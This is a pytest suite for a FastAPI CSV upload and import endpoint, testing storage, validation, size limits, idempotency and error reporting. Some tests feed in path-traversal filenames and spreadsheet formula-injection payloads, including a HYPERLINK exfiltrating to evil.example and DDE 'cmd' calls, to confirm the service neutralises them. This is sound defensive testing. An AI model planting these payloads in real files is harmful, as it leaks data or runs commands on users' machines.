"""POST /uploads and the import it schedules, on SQLite and PostgreSQL.

ASGITransport runs a request's background tasks before returning, so when a
POST returns here the import has run (in the real worker processes).
"""

import csv
import hashlib
import io
import os
import uuid
from collections.abc import AsyncIterator, Iterable
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import func, select

from app.core.config import Settings
from app.models import AuditEntry, IdempotencyKey, Upload, UploadChunk, User
from app.services.upload_files import CHUNK_BYTES
from app.tasks.recovery import recover_once
from app.tasks.runtime import current
from tests.support.smtp import SMTPServer

PROBLEM = "application/problem+json"
BOUNDARY = "test-boundary-7c1e9a"


async def upload(
    client: httpx.AsyncClient,
    content: bytes,
    *,
    filename: str = "people.csv",
    content_type: str = "text/csv",
    data: dict[str, str] | None = None,
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    return await client.post(
        "/uploads",
        files={"file": (filename, content, content_type)},
        data=data or {},
        headers=headers or {},
    )


def csv_of(*rows: str, header: str = "email,name") -> bytes:
    return "".join(f"{line}\n" for line in (header, *rows)).encode()


async def count(app: FastAPI, model: type[Any]) -> int:
    async with app.state.database.request_sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(model)) or 0)


async def emails(app: FastAPI) -> list[str]:
    async with app.state.database.request_sessions() as session:
        return sorted(await session.scalars(select(User.email)))


def files_under(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file()} if folder.exists() else set()


async def stored_files(app: FastAPI) -> dict[uuid.UUID, bytes]:
    """Each upload's file as the database holds it, its chunks joined in order."""
    files: dict[uuid.UUID, bytes] = {}
    async with app.state.database.request_sessions() as session:
        chunks = await session.execute(
            select(UploadChunk.upload_id, UploadChunk.data).order_by(UploadChunk.start)
        )
        for upload_id, data in chunks:
            files[upload_id] = files.get(upload_id, b"") + data
    return files


async def assert_nothing_written(app: FastAPI, settings: Settings) -> None:
    assert await stored_files(app) == {}
    assert not (settings.data_dir / "uploads").exists()
    assert await count(app, Upload) == 0
    assert await count(app, User) == 0


async def assert_still_serving(client: httpx.AsyncClient) -> None:
    response = await upload(client, csv_of("still@example.com,Still Here"))
    assert response.status_code == 202
    assert (await client.get(response.headers["location"])).json()["status"] == "succeeded"


# The import, end to end


async def test_an_upload_answers_202_at_once_and_the_import_then_runs_in_the_background(
    client: httpx.AsyncClient,
) -> None:
    response = await upload(client, csv_of("ada@example.com,Ada", "bob@example.com,Bob"))

    assert response.status_code == 202
    body = response.json()
    assert response.headers["location"] == f"/uploads/{body['id']}"
    assert (body["status"], body["rows_total"], body["rows_imported"]) == ("pending", 0, 0)
    after = (await client.get(response.headers["location"])).json()
    assert after["status"] == "succeeded"
    assert after["attempts"] == 1
    assert (after["rows_total"], after["rows_imported"]) == (2, 2)
    assert after["started_at"] is not None
    assert after["succeeded_at"] >= after["started_at"]


async def test_an_accepted_upload_is_audited_once(client: httpx.AsyncClient, app: FastAPI) -> None:
    body = (await upload(client, csv_of("ada@example.com,Ada"))).json()

    async with app.state.database.request_sessions() as session:
        entries = (await session.scalars(select(AuditEntry))).all()
    assert [(e.action, e.resource) for e in entries] == [
        ("upload.created", f"uploads/{body['id']}")
    ]


async def test_the_file_is_stored_in_the_database_in_chunks_with_its_size_and_sha256(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    # Three chunks: two whole ones and the rest.
    rows = [f"person{n}@example.com,Person {n}" for n in range(2 * CHUNK_BYTES // 30)]
    content = csv_of(*rows)

    body = (await upload(client, content, filename="people.csv")).json()

    assert await stored_files(app) == {uuid.UUID(body["id"]): content}
    async with app.state.database.request_sessions() as session:
        sizes = (await session.scalars(select(func.length(UploadChunk.data)))).all()
    assert sorted(sizes, reverse=True) == [CHUNK_BYTES, CHUNK_BYTES, len(content) - 2 * CHUNK_BYTES]
    assert body["filename"] == "people.csv"
    assert body["size_bytes"] == len(content)
    assert body["sha256"] == hashlib.sha256(content).hexdigest()
    assert (await client.get(f"/uploads/{body['id']}")).json()["rows_imported"] == len(rows)
    assert not (settings.data_dir / "uploads").exists()


@pytest.mark.parametrize(
    "filename", ["../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "a/../../../b.csv"]
)
async def test_a_traversal_filename_is_kept_as_data_and_writes_no_file_at_all(
    client: httpx.AsyncClient, settings: Settings, tmp_path: Path, filename: str
) -> None:
    before = files_under(tmp_path)

    response = await upload(client, csv_of("ada@example.com,Ada"), filename=filename)

    assert response.status_code == 202
    assert response.json()["filename"] == filename
    written = files_under(tmp_path) - before
    # Only the embedded database's own files, if any.
    assert {path.name.split(".db")[0] for path in written} <= {"signup-service"}


async def test_counts_are_exact_duplicates_by_case_and_registered_emails_are_not_errors(
    client: httpx.AsyncClient,
) -> None:
    await client.post("/signups", json={"email": "known@example.com", "name": "Known"})

    response = await upload(
        client,
        csv_of(
            "ada@example.com,Ada",
            "ADA@Example.com,Ada again",
            "Known@Example.COM,Known again",
            "not-an-email,Eve",
            "bob@example.com," + "b" * 101,
            "carol@example.com,Carol",
        ),
    )

    body = (await client.get(response.headers["location"])).json()
    assert body["status"] == "succeeded"
    assert body["rows_total"] == 6
    assert body["rows_imported"] == 2
    assert body["rows_duplicate"] == 2
    assert body["rows_rejected"] == 2
    assert [(e["line"], e["reason"].split(":")[0]) for e in body["first_errors"]] == [
        (5, "email"),
        (6, "name"),
    ]


async def test_the_first_of_two_rows_with_one_address_is_the_one_imported(
    client: httpx.AsyncClient,
) -> None:
    await upload(client, csv_of("ada@example.com,First Ada", "Ada@example.com,Second Ada"))

    users = (await client.get("/uploads")).json()["items"]
    assert users[0]["rows_imported"] == 1
    signup = await client.post("/signups", json={"email": "ada@example.com", "name": "X"})
    assert signup.status_code == 409


@pytest.mark.parametrize("settings_overrides", [{"upload_batch_rows": 3}])
async def test_a_file_read_in_many_batches_imports_every_row_once(
    client: httpx.AsyncClient, app: FastAPI
) -> None:
    rows = [f"user{n}@example.com,User {n}" for n in range(20)] + ["user3@example.com,Again"]

    response = await upload(client, csv_of(*rows))

    body = (await client.get(response.headers["location"])).json()
    assert (body["rows_total"], body["rows_imported"], body["rows_duplicate"]) == (21, 20, 1)
    assert len(await emails(app)) == 20


@pytest.mark.parametrize("settings_overrides", [{"recovery_grace_seconds": 0}])
async def test_imported_users_owe_a_welcome_email_that_recovery_delivers(
    client: httpx.AsyncClient, app: FastAPI, smtp: SMTPServer
) -> None:
    await upload(client, csv_of(*(f"user{n}@example.com,User {n}" for n in range(30))))
    assert smtp.messages == []  # no BackgroundTask per row: the rows owe it, durably

    statuses = [
        (await client.get(f"/users/{user_id}")).json()["welcome_email"]["status"]
        for user_id in await user_ids(app)
    ]
    assert set(statuses) == {"pending"}

    report = await recover_once(current())

    assert report["welcome_email"]["succeeded"] == 30
    assert sorted(m.rcpt_tos[0] for m in smtp.messages) == await emails(app)


@pytest.mark.parametrize("settings_overrides", [{"recovery_grace_seconds": 0}])
@pytest.mark.parametrize("send_welcome", ["false", "False"])
async def test_send_welcome_false_imports_silently_with_welcome_email_null(
    client: httpx.AsyncClient, app: FastAPI, smtp: SMTPServer, send_welcome: str
) -> None:
    response = await upload(
        client, csv_of("ada@example.com,Ada"), data={"send_welcome": send_welcome}
    )

    assert response.json()["send_welcome"] is False
    [user_id] = await user_ids(app)
    assert (await client.get(f"/users/{user_id}")).json()["welcome_email"] is None
    report = await recover_once(current())
    assert report["welcome_email"]["due"] == 0
    assert smtp.messages == []


async def user_ids(app: FastAPI) -> list[uuid.UUID]:
    async with app.state.database.request_sessions() as session:
        return list(await session.scalars(select(User.id)))


# Bad files: each ends clearly, leaves nothing half-written, and the server serves on


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        ("emial,name", "missing: email; found: emial, name"),
        ("email", "missing: name; found: email"),
        ("ada@example.com,Ada", "missing: email, name"),
    ],
)
async def test_a_bad_header_fails_the_upload_with_its_reason_and_imports_nothing(
    client: httpx.AsyncClient, app: FastAPI, header: str, reason: str
) -> None:
    response = await upload(client, csv_of("bob@example.com,Bob", header=header))

    body = (await client.get(response.headers["location"])).json()
    assert body["status"] == "failed"
    assert body["attempts"] == 1  # refused for good, not retried
    assert reason in body["last_error"]
    assert body["failed_at"] is not None
    assert body["rows_total"] == 0
    assert await count(app, User) == 0
    await assert_still_serving(client)


async def test_a_header_only_file_succeeds_with_no_rows(client: httpx.AsyncClient) -> None:
    response = await upload(client, b"\xef\xbb\xbfEmail,Name\r\n")

    body = (await client.get(response.headers["location"])).json()
    assert (body["status"], body["rows_total"]) == ("succeeded", 0)


@pytest.mark.parametrize("settings_overrides", [{"upload_max_line_bytes": 100}])
async def test_a_messy_file_imports_its_good_rows_and_lists_every_bad_one_in_errors_csv(
    client: httpx.AsyncClient, app: FastAPI
) -> None:
    content = (
        "\ufeffName,EMAIL,Company\r\n"  # BOM, any case and order, an extra column
        '"Lovelace, Ada",ada@example.com,"Analytical\r\nEngines"\r\n'  # quoted , and newline
        "Bob,bob@example.com,\r\n".encode()
        + "Zoé,zoe@example.com,\r\n".encode("latin-1")  # not UTF-8
        + b"Long," + b"x" * 200 + b"@example.com,\r\n"  # over the line limit
        + b"Eve,not-an-email,\r\n"
        + b"Carol,carol@example.com\r\n"  # a field short
        + b"Dan,DAN@example.com,\r\n"
    )  # fmt: skip

    response = await upload(client, content)

    body = (await client.get(response.headers["location"])).json()
    assert body["status"] == "succeeded"
    assert body["ignored_columns"] == ["Company"]
    assert (body["rows_total"], body["rows_imported"], body["rows_rejected"]) == (7, 3, 4)
    assert await emails(app) == ["ada@example.com", "bob@example.com", "dan@example.com"]
    errors = (await client.get(body["errors_csv"])).text.splitlines()
    assert errors[0] == "line,email,name,reason"
    assert [row.split(",")[0] for row in errors[1:]] == ["5", "6", "7", "8"]
    assert "not valid UTF-8 (byte 0xE9 on line 5)" in errors[1]
    assert "Zo\ufffd" in errors[1]
    assert "longer than 100 bytes" in errors[2]
    assert errors[3].startswith("7,not-an-email,Eve,email: An email address must have an @-sign")
    assert errors[4].startswith("8,carol@example.com,Carol,2 fields where the header has 3")


async def test_rows_with_addresses_the_service_cannot_deliver_are_rejected_with_the_reason(
    client: httpx.AsyncClient, app: FastAPI
) -> None:
    rows = [
        "jos\u00e9@example.com,Jos\u00e9",  # needs SMTPUTF8
        "\uff41\uff44\uff41@example.com,Ada",  # fullwidth look-alike
        "a" * 65 + "@example.com,Long",
        "zoe@ex\u00e4mple.com,Zo\u00eb",  # an internationalised domain is fine
    ]

    response = await upload(client, csv_of(*rows))

    body = (await client.get(response.headers["location"])).json()
    assert (body["rows_imported"], body["rows_rejected"]) == (1, 3)
    assert await emails(app) == ["zoe@ex\u00e4mple.com"]
    reasons = [error["reason"] for error in body["first_errors"]]
    assert "Internationalized characters before the @-sign" in reasons[0]
    assert "Internationalized characters before the @-sign" in reasons[1]
    assert "too long before the @-sign" in reasons[2]


async def test_errors_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    client: httpx.AsyncClient,
) -> None:
    formulas = [
        '=HYPERLINK(""https://evil.example/?""&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    rows = [f'"{cell}","{cell}"' for cell in formulas]

    response = await upload(client, csv_of(*rows))
    errors = await client.get(f"{response.headers['location']}/errors.csv")

    parsed = list(csv.reader(io.StringIO(errors.text)))
    assert len(parsed) == 1 + len(formulas)
    for (_line, email, name, reason), cell in zip(parsed[1:], formulas, strict=True):
        original = cell.replace('""', '"')
        assert email == name == "'" + original  # shown as text, and recognisably the same
        assert reason.startswith("email: ")
    assert (await client.get(response.headers["location"])).json()["first_errors"][0][
        "email"
    ] == formulas[0].replace('""', '"')  # the JSON shows the value as it came


async def test_errors_csv_streams_every_rejected_row_across_pages(
    client: httpx.AsyncClient,
) -> None:
    rows = [f"bad{n},Bad {n}" for n in range(2500)] + ["ada@example.com,Ada"]

    response = await upload(client, csv_of(*rows))
    csv_url = f"{response.headers['location']}/errors.csv"
    errors = await client.get(csv_url)

    assert errors.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in errors.headers["content-disposition"]
    lines = errors.text.splitlines()
    assert len(lines) == 1 + 2500
    assert [int(line.split(",")[0]) for line in lines[1:]] == list(range(2, 2502))


@pytest.mark.parametrize("settings_overrides", [{"upload_max_bytes": 1000}])
async def test_a_file_over_the_cap_is_413_and_leaves_no_file_and_no_row(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    response = await upload(client, csv_of(*(f"u{n}@example.com,U" for n in range(100))))

    assert response.status_code == 413
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"] == "/problems/upload-too-large"
    await assert_nothing_written(app, settings)
    await assert_still_serving(client)


class CountingBody:
    """A multipart body sent in chunks, counting how many the server asked for."""

    def __init__(self, file_chunks: Iterable[bytes], *, content_type: str = "text/csv") -> None:
        self._file_chunks = file_chunks
        self._content_type = content_type
        self.sent = 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        yield (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="big.csv"\r\nContent-Type: {self._content_type}\r\n\r\n'
        ).encode()
        for chunk in self._file_chunks:
            self.sent += 1
            yield chunk
        yield f"\r\n--{BOUNDARY}--\r\n".encode()


async def post_stream(
    client: httpx.AsyncClient, body: CountingBody, headers: dict[str, str] | None = None
) -> httpx.Response:
    return await client.post(
        "/uploads",
        content=body,
        headers={"content-type": f"multipart/form-data; boundary={BOUNDARY}", **(headers or {})},
    )


@pytest.mark.parametrize("settings_overrides", [{"upload_max_bytes": 100_000}])
async def test_a_streamed_file_over_the_cap_is_refused_without_reading_the_rest(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    body = CountingBody(b"a@example.com,A\n" * 4096 for _ in range(1000))  # 64 MiB

    response = await post_stream(client, body)

    assert response.status_code == 413
    assert body.sent < 10
    await assert_nothing_written(app, settings)


@pytest.mark.parametrize("settings_overrides", [{"upload_max_bytes": 100_000}])
async def test_a_declared_length_over_the_cap_is_refused_before_the_body_is_read(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    body = CountingBody(b"a@example.com,A\n" * 4096 for _ in range(1000))

    response = await post_stream(client, body, headers={"content-length": str(64 * 1024**2)})

    assert response.status_code == 413
    assert body.sent == 0
    await assert_nothing_written(app, settings)


@pytest.mark.parametrize("content_type", ["image/png", "application/pdf", "application/zip"])
async def test_a_file_declared_as_something_other_than_csv_is_415(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings, content_type: str
) -> None:
    response = await upload(client, csv_of("ada@example.com,Ada"), content_type=content_type)

    assert response.status_code == 415
    assert response.json()["type"] == "/problems/unsupported-upload"
    await assert_nothing_written(app, settings)


@pytest.mark.parametrize("content_type", ["application/octet-stream", "application/vnd.ms-excel"])
async def test_the_generic_types_curl_and_browsers_send_for_csv_are_accepted(
    client: httpx.AsyncClient, content_type: str
) -> None:
    response = await upload(client, csv_of("ada@example.com,Ada"), content_type=content_type)

    assert response.status_code == 202


async def test_nul_bytes_are_415_binary_not_csv_and_nothing_is_kept(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    response = await upload(client, csv_of("ada@example.com,Ada\x00"))

    assert response.status_code == 415
    assert "NUL" in response.json()["detail"]
    await assert_nothing_written(app, settings)


async def test_50_mb_of_random_bytes_are_refused_at_the_first_chunk_and_the_server_serves_on(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    body = CountingBody(
        (os.urandom(1024 * 1024) for _ in range(50)), content_type="application/octet-stream"
    )

    response = await post_stream(client, body)

    assert response.status_code == 415
    assert body.sent == 1
    await assert_nothing_written(app, settings)
    await assert_still_serving(client)


async def test_an_empty_file_is_422(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    response = await upload(client, b"")

    assert response.status_code == 422
    assert response.json()["type"] == "/problems/empty-upload"
    await assert_nothing_written(app, settings)


async def test_a_full_database_during_an_upload_is_507_and_nothing_is_kept(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    """A full database for real: SQLite's max_page_count caps the file it may grow to."""
    if not settings.is_sqlite:
        pytest.skip("a PostgreSQL disk cannot be filled here; SQLite's page cap can")
    async with app.state.database.request_engine.connect() as connection:
        pages = await connection.exec_driver_sql("PRAGMA page_count")
        await connection.exec_driver_sql(f"PRAGMA max_page_count = {pages.scalar_one() + 50}")
    rows = [f"person{n}@example.com,Person {n}" for n in range(3 * CHUNK_BYTES // 30)]

    response = await upload(client, csv_of(*rows))

    assert response.status_code == 507
    assert response.json()["type"] == "/problems/insufficient-storage"
    assert "nothing was kept" in response.json()["detail"]
    await assert_nothing_written(app, settings)


@pytest.mark.parametrize(
    ("request_kwargs", "status", "detail"),
    [
        ({"json": {"email": "ada@example.com"}}, 415, "multipart/form-data"),
        ({"content": b"email,name\n", "headers": {"content-type": "text/csv"}}, 415, "multipart"),
        ({"data": {"send_welcome": "true"}, "files": {"other": ("a.csv", b"x")}}, 422, "other"),
        ({"files": {"file": ("a.csv", b"x,y\n")}, "data": {"send_welcome": "maybe"}}, 422, "true"),
        ({"files": {"file": ("a.csv", b"x,y\n")}, "data": {"send_welcome": "0"}}, 422, "true"),
        (
            {
                "content": f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
                'filename="a.csv"\r\n\r\nemail,name\nada@example.com,Ada\n',
                "headers": {"content-type": f"multipart/form-data; boundary={BOUNDARY}"},
            },
            400,
            "ended before its closing boundary",
        ),
        (
            {
                "content": f"--{BOUNDARY}--\r\n",
                "headers": {"content-type": f"multipart/form-data; boundary={BOUNDARY}"},
            },
            422,
            "no `file` field",
        ),
    ],
    ids=[
        "json",
        "raw-csv",
        "no-file-field",
        "bad-send-welcome",
        "not-a-json-boolean",
        "truncated",
        "no-parts",
    ],
)
async def test_a_request_that_is_not_a_proper_upload_is_refused_and_leaves_nothing(
    client: httpx.AsyncClient,
    app: FastAPI,
    settings: Settings,
    request_kwargs: dict[str, Any],
    status: int,
    detail: str,
) -> None:
    response = await client.post("/uploads", **request_kwargs)

    assert response.status_code == status
    assert response.headers["content-type"] == PROBLEM
    assert detail in response.json()["detail"]
    await assert_nothing_written(app, settings)


# Idempotency-Key


async def test_the_same_idempotency_key_and_file_replays_the_first_response(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    content = csv_of("ada@example.com,Ada")
    key = {"Idempotency-Key": "import-2026-11-22"}

    first = await upload(client, content, headers=key)
    again = await upload(client, content, headers=key, filename="renamed.csv")

    assert again.status_code == 202
    assert again.json() == first.json()
    assert again.headers["location"] == first.headers["location"]
    assert again.headers["idempotent-replayed"] == "true"
    assert await count(app, Upload) == 1
    assert len(await stored_files(app)) == 1


async def test_the_same_idempotency_key_with_another_file_is_422_and_keeps_nothing_new(
    client: httpx.AsyncClient, app: FastAPI, settings: Settings
) -> None:
    key = {"Idempotency-Key": "import-2026-11-22"}
    await upload(client, csv_of("ada@example.com,Ada"), headers=key)

    other_file = await upload(client, csv_of("bob@example.com,Bob"), headers=key)
    other_choice = await upload(
        client, csv_of("ada@example.com,Ada"), headers=key, data={"send_welcome": "false"}
    )

    for response in (other_file, other_choice):
        assert response.status_code == 422
        assert response.json()["type"] == "/problems/idempotency-key-reused"
    assert await count(app, Upload) == 1
    assert len(await stored_files(app)) == 1
    assert await count(app, IdempotencyKey) == 1


# Reading uploads


async def test_uploads_are_listed_newest_first_a_page_at_a_time(
    client: httpx.AsyncClient,
) -> None:
    ids = [(await upload(client, csv_of(f"u{n}@example.com,U"))).json()["id"] for n in range(3)]

    first = (await client.get("/uploads", params={"limit": 2})).json()
    second = await client.get("/uploads", params={"limit": 2, "cursor": first["next_cursor"]})

    assert [item["id"] for item in first["items"]] == ids[::-1][:2]
    assert [item["id"] for item in second.json()["items"]] == ids[:1]
    assert second.json()["next_cursor"] is None


async def test_a_cursor_of_another_shape_is_422(client: httpx.AsyncClient) -> None:
    response = await client.get("/uploads", params={"cursor": "bm90LWEtY3Vyc29y"})

    assert response.status_code == 422
    assert response.json()["errors"][0]["loc"] == ["query", "cursor"]


@pytest.mark.parametrize("suffix", ["", "/errors.csv"])
async def test_an_unknown_upload_is_404_problem(client: httpx.AsyncClient, suffix: str) -> None:
    upload_id = uuid.uuid4()

    response = await client.get(f"/uploads/{upload_id}{suffix}")

    assert response.status_code == 404
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"] == "/problems/upload-not-found"


async def test_openapi_shows_the_multipart_body_and_the_upload_errors(
    client: httpx.AsyncClient,
) -> None:
    spec = (await client.get("/openapi.json")).json()

    post = spec["paths"]["/uploads"]["post"]
    body = post["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert body["required"] == ["file"]
    assert body["additionalProperties"] is False  # any other field is refused
    file = body["properties"]["file"]
    assert (file["contentMediaType"], file["minLength"]) == (
        "text/csv",
        1,
    )  # Swagger: a file picker
    assert file["pattern"] == "^[^\\x00]*$"  # NUL bytes: binary, refused
    assert body["properties"]["send_welcome"]["type"] == "boolean"
    encoding = post["requestBody"]["content"]["multipart/form-data"]["encoding"]
    assert encoding["file"]["contentType"] == "text/csv"
    assert {"202", "413", "415", "422"} <= set(post["responses"])
    errors_csv = spec["paths"]["/uploads/{upload_id}/errors.csv"]["get"]["responses"]["200"]
    assert errors_csv["content"]["text/csv"]["schema"] == {"type": "string"}
